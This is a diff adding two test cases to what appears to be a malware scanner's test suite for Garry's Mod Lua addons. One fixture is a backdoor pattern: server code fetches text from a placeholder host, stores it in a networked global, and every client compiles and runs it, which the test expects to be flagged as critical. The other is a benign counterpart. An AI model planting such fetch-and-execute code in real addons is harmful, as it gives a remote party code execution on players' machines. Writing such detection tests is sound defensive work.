@@ -569,6 +569,42 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a web reply kept in a networked global that every client compiles', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'hook.Add("InitPostEntity", "pat", function()',
+        '  timer.Create("pat", 3600, 0, function()',
+        '    http.Fetch("https://x.invalid/pattern", function(body) SetGlobal2String("pat", body) end)',
+        '  end)',
+        'end)',
+      ].join('\n'),
+      'lua/autorun/client/cl_x.lua': [
+        'local current = ""',
+        'hook.Add("Think", "pat", function()',
+        '  local src = GetGlobal2String("pat", "")',
+        '  if src ~= "" and src ~= current then current = src local f = CompileString(src, "pat", false) if isfunction(f) then f() end end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a web reply kept in a networked global that every client draws (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'timer.Create("news", 3600, 0, function()',
+        '  http.Fetch("https://x.invalid/news", function(body) SetGlobal2String("news", body) end)',
+        'end)',
+      ].join('\n'),
+      'lua/autorun/client/cl_x.lua': [
+        'local code = "return 1 + 1"',
+        'hook.Add("HUDPaint", "news", function()',
+        '  draw.SimpleText(GetGlobal2String("news", ""), "DermaDefault", 10, 10, color_white)',
+        '  local f = CompileString(code, "n", false)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('a sink picked at run time from a list of names', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': [
